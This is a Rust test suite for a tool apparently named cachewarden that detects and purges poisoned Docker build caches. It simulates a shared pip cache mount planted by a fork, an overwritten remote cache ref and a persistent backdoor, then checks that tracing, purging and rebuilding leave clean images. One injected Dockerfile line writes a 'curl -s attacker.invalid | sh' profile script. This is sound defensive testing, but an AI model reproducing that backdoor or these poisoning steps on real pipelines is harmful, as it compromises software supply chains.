//! The cache-poisoning attacks end to end. Every build and push goes through `cachewarden
//! wrap` as a CI job runs it, on private dockerds and a loopback registry; detection is
//! `trace` and `incident open`, removal `incident purge --execute`, and a rebuild proves the
//! planted content gone.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};

use cachewarden::graph::record_carries_taint;
use cachewarden::graph::source::RecordInfo;

use crate::build::ConfigBuilder;
use crate::common::{Env, ok};
use crate::harness::http::{self, Request};
use crate::harness::{self, Dockerd, Engine, Registry, RegistryOpts};
use crate::on_both_engines;

/// The Dockerfiles of the scenarios' projects; `{{BASE}}` stands for the base image.
pub(crate) const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/scenarios");
/// What the untrusted project plants in the pip cache.
const PLANTED: &str = "sitecustomize.py";
/// A pip cache mount with its default id, as BuildKit names it.
const PIP: &str = "/root/.cache/pip";
/// The build arguments that put the cache inline in the image.
const INLINE: &[&str] = &["--build-arg", "BUILDKIT_INLINE_CACHE=1"];

/// A CI job: its pipeline and the trust level its runs declare.
pub(crate) struct Job {
    pub(crate) pipeline: &'static str,
    pub(crate) trust: &'static str,
}

/// A job of `pipeline` whose runs declare `trust`.
pub(crate) const fn job(pipeline: &'static str, trust: &'static str) -> Job {
    Job { pipeline, trust }
}

pub(crate) const WEBAPP: Job = job("webapp", "release");
pub(crate) const FORK: Job = job("fork-pr", "untrusted");
const DOCS: Job = job("docs", "internal");

/// One scenario's world: a registry, the builders CI uses (configured and in the purge
/// scope), builders nobody recorded, and a store.
pub(crate) struct Lab {
    pub(crate) env: Env,
    pub(crate) registry: Registry,
    builders: Vec<(String, Dockerd)>,
    pub(crate) config: PathBuf,
    /// `REGISTRY/base:1`, pushed from the first builder.
    pub(crate) base: String,
    scratch: AtomicUsize,
}

/// A build-cache record as `GET /system/df` lists it.
#[derive(Debug, Clone)]
struct CacheRow {
    id: String,
    kind: String,
    description: String,
    parent: String,
    in_use: bool,
}

impl Lab {
    /// Starts the services, every builder on `engine`, in parallel; `None` when they are
    /// missing and may be skipped.
    pub(crate) fn start_on(engine: Engine, builders: &[&str], outsiders: &[&str]) -> Option<Self> {
        if !harness::require_engine(engine) || !harness::require_registry() {
            return None;
        }
        let registry = std::thread::spawn(|| Registry::start(RegistryOpts::default()));
        let starting: Vec<(String, std::thread::JoinHandle<Dockerd>)> = builders
            .iter()
            .chain(outsiders)
            .map(|name| {
                let started = std::thread::spawn(move || Dockerd::start_engine(engine));
                ((*name).to_owned(), started)
            })
            .collect();
        let builders_started: Vec<(String, Dockerd)> = starting
            .into_iter()
            .map(|(name, handle)| (name, handle.join().expect("dockerd started")))
            .collect();
        let registry = registry.join().expect("registry started");
        let env = Env::new();
        let host = registry.host();
        let config = builders_started
            .iter()
            .filter(|(n, _)| builders.contains(&n.as_str()))
            .fold(ConfigBuilder::new(), |config, (name, dockerd)| {
                config.builder(name, &dockerd.host())
            })
            .scope_registries([&host])
            .with_registry(&host)
            .scope_builders(builders)
            .write(&env);
        let base = format!("{host}/base:1");
        let first = &builders_started[0].1;
        first.import_busybox(&base);
        first.run(["push", &base]);
        Some(Self {
            env,
            registry,
            builders: builders_started,
            config,
            base,
            scratch: AtomicUsize::new(0),
        })
    }

    pub(crate) fn host(&self) -> String {
        self.registry.host()
    }

    pub(crate) fn dockerd(&self, builder: &str) -> &Dockerd {
        self.builders
            .iter()
            .find(|(name, _)| name == builder)
            .map(|(_, d)| d)
            .unwrap_or_else(|| panic!("no builder `{builder}`"))
    }

    /// `cachewarden` with this lab's store and config.
    pub(crate) fn cw(&self) -> Command {
        let mut cmd = self.env.cmd();
        cmd.env("CACHEWARDEN_CONFIG", &self.config)
            .env("CACHEWARDEN_NO_PROGRESS", "1");
        cmd
    }

    /// Checks out a project: the fixture's files with the base image filled in, `extra`
    /// appended to its Dockerfile, and `files` written beside it. The same `dir` is the same
    /// checkout, so its builds keep one step name across commits.
    pub(crate) fn checkout(
        &self,
        fixture: &str,
        dir: &str,
        extra: &str,
        files: &[(&str, &str)],
    ) -> PathBuf {
        let from = Path::new(FIXTURES).join(fixture);
        let to = self.env.path().join("src").join(dir);
        let _ = std::fs::remove_dir_all(&to);
        std::fs::create_dir_all(&to).unwrap();
        for entry in std::fs::read_dir(&from).unwrap() {
            let entry = entry.unwrap();
            let text = std::fs::read_to_string(entry.path()).unwrap();
            let text = if entry.file_name() == "Dockerfile" {
                format!("{}{extra}", text.replace("{{BASE}}", &self.base))
            } else {
                text
            };
            std::fs::write(to.join(entry.file_name()), text).unwrap();
        }
        for (name, text) in files {
            std::fs::write(to.join(name), text).unwrap();
        }
        to
    }

    /// Checks out `pip-app` in `dir` with `requirement` in its requirements and `extra`
    /// appended to its Dockerfile.
    pub(crate) fn pip_app(&self, dir: &str, requirement: &str, extra: &str) -> PathBuf {
        let requirements = format!("{requirement}\n");
        self.checkout(
            "pip-app",
            dir,
            extra,
            &[("requirements.txt", &requirements)],
        )
    }

    /// `cachewarden wrap` as the job runs it; fails the test when the command fails or its
    /// builder records were not captured.
    fn wrap(&self, builder: &str, job: &Job, run: &str, command: &[&str]) -> String {
        let dockerd = self.dockerd(builder);
        let mut cmd = self.cw();
        cmd.env("DOCKER_HOST", dockerd.host())
            .env("DOCKER_CONFIG", dockerd.config_dir())
            .env("DOCKER_BUILDKIT", "1")
            .env("BUILDKIT_PROGRESS", "plain")
            .env("CACHEWARDEN_BUILDER", builder)
            .args([
                "wrap",
                "--pipeline",
                job.pipeline,
                "--run",
                run,
                "--trust-level",
                job.trust,
                "--",
            ])
            .arg(harness::DOCKER)
            .args(command);
        let out = cmd.output().expect("run cachewarden wrap");
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            out.status.success(),
            "{}/{run}: {command:?} failed:\n{text}",
            job.pipeline
        );
        assert!(
            text.contains("cachewarden: recorded"),
            "{}/{run} was not recorded:\n{text}",
            job.pipeline
        );
        assert!(
            !text.contains("not captured") && !text.contains("not be captured"),
            "{}/{run}: no record evidence:\n{text}",
            job.pipeline
        );
        text
    }

    /// A wrapped `docker build --network=none [extra] -t TAG CONTEXT`.
    pub(crate) fn build(
        &self,
        builder: &str,
        job: &Job,
        run: &str,
        context: &Path,
        tag: &str,
        extra: &[&str],
    ) -> String {
        let mut command = vec!["build", "--network=none"];
        command.extend(extra);
        command.extend(["-t", tag, context.to_str().unwrap()]);
        self.wrap(builder, job, run, &command)
    }

    /// A wrapped build with inline cache, then its wrapped push; returns the pushed digest.
    fn build_push(&self, b: &str, job: &Job, run: &str, ctx: &Path, tag: &str) -> String {
        self.build(b, job, run, ctx, tag, INLINE);
        self.push(b, job, run, tag)
    }

    /// A wrapped `docker buildx build --network=none [extra] -t TAG CONTEXT`.
    pub(crate) fn buildx(
        &self,
        builder: &str,
        job: &Job,
        run: &str,
        context: &Path,
        tag: &str,
        extra: &[&str],
    ) -> String {
        let mut command = vec!["buildx", "build", "--network=none"];
        command.extend(extra);
        command.extend(["-t", tag, context.to_str().unwrap()]);
        self.wrap(builder, job, run, &command)
    }

    /// A wrapped `docker push`; returns the pushed digest.
    pub(crate) fn push(&self, builder: &str, job: &Job, run: &str, reference: &str) -> String {
        digest_in(&self.wrap(builder, job, run, &["push", reference]))
    }

    /// Every recorded run step, as `export` prints it.
    pub(crate) fn runs(&self) -> Vec<serde_json::Value> {
        ok(self.cw().arg("export"))
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|v| v["type"] == "run")
            .collect()
    }

    /// `pipeline/run` of every recorded run.
    fn all_runs(&self) -> BTreeSet<String> {
        self.runs().iter().map(run_name).collect()
    }

    /// `pipeline/run` of the runs the seeds taint.
    fn tainted_runs(&self, seeds: &[&str]) -> BTreeSet<String> {
        let trace = self.trace(seeds);
        trace["runs"]
            .as_array()
            .unwrap()
            .iter()
            .map(run_name)
            .collect()
    }

    fn trace(&self, seeds: &[&str]) -> serde_json::Value {
        let out = ok(self
            .cw()
            .arg("trace")
            .args(seeds)
            .args(["--format", "json"]));
        serde_json::from_str(&out).unwrap()
    }

    /// The ids of the layer records a run's steps created (`created`) or reused (`reused`):
    /// those that carry taint from run to run, as the trace counts them.
    fn layers(&self, run: &str, which: &str) -> BTreeSet<String> {
        let steps: Vec<serde_json::Value> = self
            .runs()
            .into_iter()
            .filter(|r| run_name(r) == run)
            .collect();
        assert!(!steps.is_empty(), "no run {run}");
        steps
            .iter()
            .flat_map(|r| r["records"][which].as_array().cloned().unwrap_or_default())
            .filter(|r| {
                record_carries_taint(&RecordInfo {
                    id: 0,
                    builder: 0,
                    record_id: Default::default(),
                    record_type: r["type"].as_str().unwrap_or_default().into(),
                    description: r["description"].as_str().unwrap_or_default().into(),
                    doubted: false,
                })
            })
            .map(|r| r["id"].as_str().unwrap().to_owned())
            .collect()
    }

    /// `incident open` with these seeds; returns the incident id.
    pub(crate) fn open(&self, seeds: &[&str]) -> String {
        let out = ok(self
            .cw()
            .args(["incident", "open", "--format", "json"])
            .args(seeds));
        let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
        doc["incident"].as_i64().unwrap().to_string()
    }

    /// `incident purge ID --execute --yes`, which must finish every action.
    pub(crate) fn purge(&self, id: &str) -> String {
        let out = self
            .cw()
            .args(["incident", "purge", id, "--execute", "--yes"])
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        if out.status.code() != Some(0) || !text.contains(" 0 failed") {
            let caches: Vec<String> = self
                .builders
                .iter()
                .map(|(name, _)| {
                    let rows: Vec<String> = self
                        .cache(name)
                        .iter()
                        .map(|r| {
                            format!(
                                "  {} {} parent={} in_use={} {}",
                                r.id, r.kind, r.parent, r.in_use, r.description
                            )
                        })
                        .collect();
                    format!("{name}:\n{}", rows.join("\n"))
                })
                .collect();
            panic!(
                "purge of incident {id} failed:\n{text}\nbuild caches now:\n{}",
                caches.join("\n")
            );
        }
        text
    }

    /// Whether the registry still serves the manifest.
    fn exists(&self, repository: &str, digest: &str) -> bool {
        let response = self.registry.request(
            Request::new("HEAD", &format!("/v2/{repository}/manifests/{digest}")).header(
                "Accept",
                "application/vnd.docker.distribution.manifest.v2+json, \
                 application/vnd.oci.image.manifest.v1+json, application/vnd.oci.image.index.v1+json",
            ),
        );
        response.status == 200
    }

    /// The builder's build-cache records.
    fn cache(&self, builder: &str) -> Vec<CacheRow> {
        let dockerd = self.dockerd(builder);
        let response = http::unix(&dockerd.socket(), &Request::get("/v1.41/system/df"))
            .expect("GET /system/df");
        assert_eq!(response.status, 200, "{}", response.text());
        response.json()["BuildCache"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .map(|r| CacheRow {
                id: r["ID"].as_str().unwrap_or_default().to_owned(),
                kind: r["Type"].as_str().unwrap_or_default().to_owned(),
                description: r["Description"].as_str().unwrap_or_default().to_owned(),
                parent: r["Parent"].as_str().unwrap_or_default().to_owned(),
                in_use: r["InUse"].as_bool().unwrap_or_default(),
            })
            .collect()
    }

    /// Ids of the builder's cache-mount records at `target`.
    fn mount_records(&self, builder: &str, target: &str) -> BTreeSet<String> {
        let prefix = format!("cached mount {target} from exec ");
        self.cache(builder)
            .into_iter()
            .filter(|r| r.kind == "exec.cachemount" && r.description.starts_with(&prefix))
            .map(|r| r.id)
            .collect()
    }

    /// Ids of every build-cache record on the builder.
    fn record_ids(&self, builder: &str) -> BTreeSet<String> {
        self.cache(builder).into_iter().map(|r| r.id).collect()
    }

    fn has_image(&self, builder: &str, reference: &str) -> bool {
        self.dockerd(builder)
            .docker(["image", "inspect", reference])
            .output()
            .unwrap()
            .status
            .success()
    }

    /// The names in directory `dir` of an image, read without running it.
    fn files(&self, builder: &str, image: &str, dir: &str) -> BTreeSet<String> {
        let dockerd = self.dockerd(builder);
        let container = dockerd.run(["create", image, "sh"]).trim().to_owned();
        let n = self.scratch.fetch_add(1, Ordering::Relaxed);
        let dest = self.env.path().join(format!("out{n}"));
        dockerd.run([
            "cp".to_owned(),
            format!("{container}:{dir}"),
            dest.display().to_string(),
        ]);
        dockerd.run(["rm", &container]);
        std::fs::read_dir(&dest)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    }
}

pub(crate) fn run_name(run: &serde_json::Value) -> String {
    format!(
        "{}/{}",
        run["pipeline"].as_str().unwrap(),
        run["run"].as_str().unwrap()
    )
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

/// Whether the first build of a step after a prune is served from the layer records that
/// survived it. Docker 26 (BuildKit 0.13, containerd image store) runs each step once more
/// after any prune that removed something, even another build's records, though the records
/// stay; the build after that is served from the cache again.
fn layer_cache_survives_a_prune(engine: Engine) -> bool {
    engine == Engine::Docker20
}

/// Whether the plain-progress build output shows the step named `step` served from cache.
fn step_cached(output: &str, step: &str) -> bool {
    let vertices: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with('#') && l.contains(step))
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    assert!(!vertices.is_empty(), "no step `{step}` in\n{output}");
    // A hit on a remote cache may show the step's layer blobs being fetched (`#N sha256:...
    // 248B / 248B done`) instead of CACHED; a vertex's own digest line has no byte counts.
    let fetched = |l: &str, v: &str| l.starts_with(&format!("{v} sha256:")) && l.contains(" / ");
    vertices.iter().any(|v| {
        output
            .lines()
            .any(|l| l.trim() == format!("{v} CACHED") || fetched(l, v))
    })
}

/// The digest `docker push` printed.
fn digest_in(output: &str) -> String {
    output
        .split("digest: ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .filter(|d| d.starts_with("sha256:"))
        .unwrap_or_else(|| panic!("no digest in the push output:\n{output}"))
        .to_owned()
}

/// Scenario 1: an untrusted project plants a file in the pip cache mount it shares with a
/// trusted project on one builder; the purge removes the cache, the trusted image and its
/// pushed cache, a rebuild is clean, and a third project with its own mount id keeps its cache.
fn shared_mount_cache_across_projects(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-shared"], &[]) else {
        return;
    };
    let b = "ci-shared";
    let host = lab.host();

    let fork = lab.checkout("pip-plant", "fork", "", &[]);
    lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
    let webapp = lab.pip_app("webapp", "flask-2.0.1", "");
    let webapp_ref = format!("{host}/webapp:1");
    let webapp_digest = lab.build_push(b, &WEBAPP, "1", &webapp, &webapp_ref);
    assert_eq!(
        lab.files(b, &webapp_ref, "/app/site"),
        set(&["flask-2.0.1.whl", PLANTED]),
        "the attack did not reach the trusted image"
    );
    let docs = lab.checkout(
        "npm-docs",
        "docs",
        "",
        &[("package.txt", "markdown-it-13\n")],
    );
    let docs_ref = format!("{host}/docs:1");
    let docs_digest = lab.build_push(b, &DOCS, "1", &docs, &docs_ref);

    let seed = ["--pipeline", "fork-pr"];
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "webapp/1"]));
    assert_eq!(lab.all_runs(), set(&["fork-pr/1", "webapp/1", "docs/1"]));
    let trace = lab.trace(&seed);
    let mounts: BTreeSet<String> = trace["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            format!(
                "{}:{}",
                m["builder"].as_str().unwrap(),
                m["id"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(mounts, set(&["ci-shared:/root/.cache/pip"]), "{trace:#}");
    // Record-level evidence: the docs build never reused what the untrusted build created.
    let fork_created = lab.layers("fork-pr/1", "created");
    assert!(!fork_created.is_empty());
    assert!(lab.layers("docs/1", "reused").is_disjoint(&fork_created));

    let pip_before = lab.mount_records(b, PIP);
    let npm_before = lab.mount_records(b, "/root/.npm");
    assert!(!pip_before.is_empty() && npm_before.len() == 1);
    let docs_created = lab.layers("docs/1", "created");
    let id = lab.open(&seed);
    lab.purge(&id);
    crate::purge_provenance::assert_executor_purge(&lab.cw(), &id, PIP);

    // Evidence: before pruning, the purge listed the mount's files with their hashes.
    let listing = lab.env.path().join(format!(
        "evidence/incident-{id}/mounts/{b}/root_.cache_pip.sha256"
    ));
    let listing = std::fs::read_to_string(&listing)
        .unwrap_or_else(|err| panic!("no mount listing at {}: {err}", listing.display()));
    assert!(
        listing
            .lines()
            .any(|l| l.ends_with("./sitecustomize.py") && l.len() > 66),
        "the listing names the planted file with its hash:\n{listing}"
    );
    assert!(
        !lab.exists("webapp", &webapp_digest),
        "the poisoned image's inline cache survived"
    );
    assert!(
        lab.exists("docs", &docs_digest),
        "the docs image was deleted"
    );
    assert!(
        lab.mount_records(b, PIP).is_empty(),
        "pip cache records survived"
    );
    assert_eq!(
        lab.mount_records(b, "/root/.npm"),
        npm_before,
        "the docs mount cache was touched"
    );
    let remaining = lab.record_ids(b);
    let pruned: BTreeSet<&String> = docs_created.difference(&remaining).collect();
    assert!(
        pruned.is_empty(),
        "the docs layers {pruned:?} were pruned; fork-pr/1 created {fork_created:?}, \
         webapp/1 created {:?}; left on the builder: {remaining:?}",
        lab.layers("webapp/1", "created"),
    );
    assert!(
        !lab.has_image(b, &webapp_ref),
        "the poisoned local image survived"
    );
    assert!(lab.has_image(b, &docs_ref));

    // Proof: the trusted project's rebuild is clean; the docs rebuild is served from its cache.
    lab.build(b, &WEBAPP, "2", &webapp, &webapp_ref, INLINE);
    assert_eq!(
        lab.files(b, &webapp_ref, "/app/site"),
        set(&["flask-2.0.1.whl"])
    );
    lab.build(b, &DOCS, "2", &docs, &docs_ref, INLINE);
    if layer_cache_survives_a_prune(engine) {
        assert!(docs_created.is_subset(&lab.layers("docs/2", "reused")));
        assert!(
            lab.layers("docs/2", "created").is_empty(),
            "the docs cache was lost"
        );
    } else {
        lab.build(b, &DOCS, "3", &docs, &docs_ref, INLINE);
        assert!(
            lab.layers("docs/3", "created").is_empty(),
            "the docs cache was lost"
        );
    }
    assert_eq!(lab.tainted_runs(&seed), set(&["fork-pr/1", "webapp/1"]));
    // The rebuild is clean because of the executor's purge, and the trace says so.
    let trace = lab.trace(&seed);
    let applied = trace["purges"].as_array().unwrap();
    assert!(
        applied.iter().any(|p| p["method"] == "executor"
            && p["incident"].as_i64().map(|i| i.to_string()).as_deref() == Some(id.as_str())
            && p["kept_out"].as_u64() > Some(0)),
        "{trace:#}"
    );
}

on_both_engines!(shared_mount_cache_across_projects);

/// A mount cache purged by an incident, then written again by the compromised pipeline: the
/// re-run trace plans nothing new for the mount (its target is the same), so verify finds it
/// present, and the next execution prunes it again, its done action reopened; then the mount
/// verifies gone.
fn a_mount_written_again_after_its_purge_is_pruned_again(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-again"], &[]) else {
        return;
    };
    let b = "ci-again";
    let fork = lab.checkout("pip-plant", "fork", "", &[]);
    lab.build(b, &FORK, "1", &fork, "fork-pr:1", &[]);
    let seed = ["--pipeline", "fork-pr"];
    let id = lab.open(&seed);
    lab.purge(&id);
    assert!(lab.mount_records(b, PIP).is_empty());

    lab.build(b, &FORK, "2", &fork, "fork-pr:2", &[]);
    assert!(!lab.mount_records(b, PIP).is_empty());
    let verify = lab.cw().args(["incident", "verify", &id]).output().unwrap();
    let text = String::from_utf8_lossy(&verify.stdout).into_owned();
    assert_eq!(verify.status.code(), Some(1), "{text}");
    let line = text
        .lines()
        .find(|l| l.contains("prune-mount") || l.contains(PIP))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(line.trim_start().starts_with("PRESENT"), "{text}");

    let out = lab.purge(&id);
    assert!(out.contains("to be run again"), "{out}");
    assert!(
        lab.mount_records(b, PIP).is_empty(),
        "the mount written again was not pruned again:\n{out}"
    );
    let verify = lab.cw().args(["incident", "verify", &id]).output().unwrap();
    let text = String::from_utf8_lossy(&verify.stdout).into_owned();
    let line = text
        .lines()
        .find(|l| l.contains(PIP))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(line.trim_start().starts_with("gone"), "{text}");
}

#[test]
fn a_mount_written_again_after_its_purge_is_pruned_again_on_docker_20_10() {
    a_mount_written_again_after_its_purge_is_pruned_again(Engine::Docker20);
}

/// Scenario 2 on Docker 20.10, with inline cache: an outsider overwrites a trusted cache ref
/// from another builder; a release build imports it and pushes its own cache, which a third
/// pipeline imports. Seeded by the outsider's digest, the trace finds both; the purge deletes
/// the poisoned refs, prunes both builders and removes the local images, the trusted cache
/// stays, and rebuilds are clean.
#[test]
fn poisoned_remote_cache() {
    poisoned_remote_cache_on(Engine::Docker20, CacheMode::Inline);
}

/// Scenario 2 on Docker 26, with registry caches (`--cache-to type=registry,mode=max`), which
/// 20.10's docker driver cannot export.
#[test]
fn poisoned_remote_cache_registry_export() {
    poisoned_remote_cache_on(Engine::Docker26, CacheMode::Registry);
}

/// How a scenario's builds publish their cache.
#[derive(Clone, Copy)]
enum CacheMode {
    /// `docker build --build-arg BUILDKIT_INLINE_CACHE=1`, then `docker push`: the image is
    /// the cache.
    Inline,
    /// `docker buildx build --cache-to type=registry,ref=CACHE,mode=max`: the cache is an
    /// index of its own, and the image stays on the builder.
    Registry,
}

/// One project's names: the image it builds and the registry ref of its cache.
struct Project {
    image: String,
    cache: String,
}

impl Lab {
    /// Builds `context` as `project` on `builder` for `job`'s `run`, publishing its cache the
    /// `mode` way, importing `cache_from` if given; returns the digest of the published cache.
    fn publish(
        &self,
        mode: CacheMode,
        (builder, job, run): (&str, &Job, &str),
        context: &Path,
        project: &Project,
        cache_from: Option<&str>,
        extra: &[&str],
    ) -> String {
        let (repository, tag) = repository_tag(&self.host(), &project.cache);
        match mode {
            CacheMode::Inline => {
                let mut args = vec!["--build-arg", "BUILDKIT_INLINE_CACHE=1"];
                if let Some(from) = cache_from {
                    args.extend(["--cache-from", from]);
                }
                args.extend(extra);
                self.build(builder, job, run, context, &project.cache, &args);
                self.push(builder, job, run, &project.cache)
            }
            CacheMode::Registry => {
                let to = format!("type=registry,ref={},mode=max", project.cache);
                let from = cache_from.map(|f| format!("type=registry,ref={f}"));
                let mut args = vec!["--cache-to", to.as_str()];
                if let Some(from) = &from {
                    args.extend(["--cache-from", from.as_str()]);
                }
                args.extend(extra);
                self.buildx(builder, job, run, context, &project.image, &args);
                self.registry.any_manifest_digest(&repository, &tag)
            }
        }
    }
}

/// `app` and `cache` of `HOST/app:cache`.
fn repository_tag(host: &str, reference: &str) -> (String, String) {
    let path = reference
        .strip_prefix(&format!("{host}/"))
        .unwrap_or_else(|| panic!("{reference} is not on {host}"));
    let (repository, tag) = path.split_once(':').unwrap();
    (repository.to_owned(), tag.to_owned())
}

fn poisoned_remote_cache_on(engine: Engine, mode: CacheMode) {
    let Some(lab) = Lab::start_on(engine, &["ci-main", "ci-release"], &["outsider"]) else {
        return;
    };
    const APP: Job = job("app", "release");
    const RELEASE: Job = job("release", "release");
    const DOWNSTREAM: Job = job("downstream", "internal");
    let host = lab.host();
    let project = |name: &str| match mode {
        CacheMode::Inline => Project {
            image: format!("{host}/{name}:cache"),
            cache: format!("{host}/{name}:cache"),
        },
        CacheMode::Registry => Project {
            image: format!("{host}/{name}:1"),
            cache: format!("{host}/{name}:cache"),
        },
    };
    let app_project = project("app");
    let release_project = project("release");
    let downstream_project = Project {
        image: format!("{host}/downstream:1"),
        cache: format!("{host}/downstream:cache"),
    };
    let cache_ref = app_project.cache.clone();

    let app = lab.checkout(
        "pip-app",
        "app",
        "",
        &[("requirements.txt", "flask-2.0.1\n")],
    );
    let trusted = lab.publish(mode, ("ci-main", &APP, "1"), &app, &app_project, None, &[]);
    let trusted_records = lab.layers("app/1", "created");

    // The outsider builds the next commit with a planted pip cache on a builder nobody
    // records, and publishes its cache over the trusted ref.
    let outsider = lab.dockerd("outsider");
    let plant = lab.checkout("pip-plant", "outsider-plant", "", &[]);
    outsider.build(&plant, "plant:1", &[]);
    let next = lab.checkout(
        "pip-app",
        "outsider-app",
        "",
        &[("requirements.txt", "flask-2.0.2\n")],
    );
    let evil = match mode {
        CacheMode::Inline => {
            outsider.build(
                &next,
                &cache_ref,
                &["--build-arg", "BUILDKIT_INLINE_CACHE=1"],
            );
            digest_in(&outsider.run(["push", &cache_ref]))
        }
        CacheMode::Registry => {
            let to = format!("type=registry,ref={cache_ref},mode=max");
            let mut command = outsider.docker(["buildx", "build", "--network=none"]);
            command
                .args(["--cache-to", &to, "-t", "outsider:1"])
                .arg(&next);
            let out = command.output().unwrap();
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            lab.registry.any_manifest_digest("app", "cache")
        }
    };
    assert_ne!(evil, trusted);

    let release = lab.checkout(
        "pip-app",
        "release",
        "",
        &[("requirements.txt", "flask-2.0.2\n")],
    );
    let label = ["--label", "org.opencontainers.image.title=release"];
    let poisoned = lab.publish(
        mode,
        ("ci-release", &RELEASE, "1"),
        &release,
        &release_project,
        Some(&cache_ref),
        &label,
    );
    assert_eq!(
        lab.files("ci-release", &release_project.image, "/app/site"),
        set(&["flask-2.0.2.whl", PLANTED])
    );
    let downstream = lab.pip_app(
        "downstream",
        "flask-2.0.2",
        "RUN ls /app/site > /app/contents\n",
    );
    let build_downstream = |run: &str| match mode {
        CacheMode::Inline => lab.build(
            "ci-main",
            &DOWNSTREAM,
            run,
            &downstream,
            &downstream_project.image,
            &["--cache-from", &release_project.cache],
        ),
        CacheMode::Registry => lab.buildx(
            "ci-main",
            &DOWNSTREAM,
            run,
            &downstream,
            &downstream_project.image,
            &[
                "--cache-from",
                &format!("type=registry,ref={}", release_project.cache),
            ],
        ),
    };
    build_downstream("1");
    assert!(
        lab.files("ci-main", &downstream_project.image, "/app/site")
            .contains(PLANTED)
    );

    let seed_ref = format!("{host}/app@{evil}");
    let seed = ["--cache-ref", seed_ref.as_str()];
    assert_eq!(lab.tainted_runs(&seed), set(&["release/1", "downstream/1"]));
    assert_eq!(lab.all_runs(), set(&["app/1", "release/1", "downstream/1"]));
    let trace = lab.trace(&seed);
    let refs: BTreeSet<String> = trace["cache_refs"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| {
            Some(format!(
                "{}@{}",
                r["locator"].as_str()?,
                r["digest"].as_str()?
            ))
        })
        .collect();
    assert_eq!(
        refs,
        set(&[&seed_ref, &format!("{host}/release@{poisoned}")]),
        "{trace:#}"
    );

    let release_created = lab.layers("release/1", "created");
    let downstream_created = lab.layers("downstream/1", "created");
    assert!(!release_created.is_empty() && !downstream_created.is_empty());
    let id = lab.open(&seed);
    lab.purge(&id);

    assert!(!lab.exists("app", &evil), "the outsider's cache survived");
    assert!(
        !lab.exists("release", &poisoned),
        "the release cache built on it survived"
    );
    assert!(lab.exists("app", &trusted), "the trusted cache was deleted");
    assert!(lab.registry.tags("app").is_empty() && lab.registry.tags("release").is_empty());
    assert!(lab.record_ids("ci-release").is_disjoint(&release_created));
    let main_records = lab.record_ids("ci-main");
    assert!(
        main_records.is_disjoint(&downstream_created),
        "downstream records survived"
    );
    assert!(
        trusted_records.is_subset(&main_records),
        "the trusted build's records were pruned"
    );
    assert!(!lab.has_image("ci-release", &release_project.image));
    assert!(!lab.has_image("ci-main", &downstream_project.image));
    assert!(
        lab.has_image("ci-main", &app_project.image),
        "the trusted local image was removed"
    );

    // Proof: the same jobs, with the same flags, build clean images.
    lab.publish(
        mode,
        ("ci-release", &RELEASE, "2"),
        &release,
        &release_project,
        Some(&cache_ref),
        &label,
    );
    assert_eq!(
        lab.files("ci-release", &release_project.image, "/app/site"),
        set(&["flask-2.0.2.whl"])
    );
    build_downstream("2");
    assert!(
        !lab.files("ci-main", &downstream_project.image, "/app/site")
            .contains(PLANTED)
    );
    assert_eq!(lab.tainted_runs(&seed), set(&["release/1", "downstream/1"]));
}

/// Scenario 3: a compromised job planted a backdoor through the pip cache; after the job and
/// its Dockerfile are fixed, the next build still hits the poisoned layer, and only after the
/// purge is it rebuilt clean.
fn persistence_after_compromise(engine: Engine) {
    let Some(lab) = Lab::start_on(engine, &["ci-svc"], &[]) else {
        return;
    };
    const SVC: Job = job("svc", "internal");
    let b = "ci-svc";
    let host = lab.host();
    let svc_ref = |run: &str| format!("{host}/svc:{run}");

    let svc = lab.pip_app("svc", "flask-2.0.1", "");
    let clean = lab.build_push(b, &SVC, "1", &svc, &svc_ref("1"));

    // Run 2 is compromised: an injected build plants in the pip cache, and an injected
    // Dockerfile line drops a second backdoor.
    let plant = lab.checkout("pip-plant", "svc-injected", "", &[]);
    lab.build(b, &SVC, "2", &plant, "svc-injected:2", &[]);
    let injected = "RUN mkdir -p /etc/profile.d && echo 'curl -s attacker.invalid | sh' > /etc/profile.d/update.sh\n";
    let svc = lab.pip_app("svc", "flask-2.0.2", injected);
    let compromised = lab.build_push(b, &SVC, "2", &svc, &svc_ref("2"));

    // Fixed: no injected build, the Dockerfile line is gone; the install step is a cache hit.
    let svc = lab.pip_app("svc", "flask-2.0.2", "");
    let patched = lab.build_push(b, &SVC, "3", &svc, &svc_ref("3"));
    assert!(!lab.files(b, &svc_ref("3"), "/etc").contains("profile.d"));
    assert_eq!(
        lab.files(b, &svc_ref("3"), "/app/site"),
        set(&["flask-2.0.1.whl", "flask-2.0.2.whl", PLANTED])
    );
    let poisoned_layers = lab.layers("svc/2", "created");
    assert!(
        !lab.layers("svc/3", "reused").is_disjoint(&poisoned_layers),
        "the patched build did not hit the compromised run's layers"
    );
    assert!(lab.layers("svc/3", "created").len() < poisoned_layers.len());

    let seed = ["--run", "svc/2"];
    assert_eq!(lab.tainted_runs(&seed), set(&["svc/2", "svc/3"]));
    assert_eq!(lab.all_runs(), set(&["svc/1", "svc/2", "svc/3"]));
    let clean_records = lab.layers("svc/1", "created");
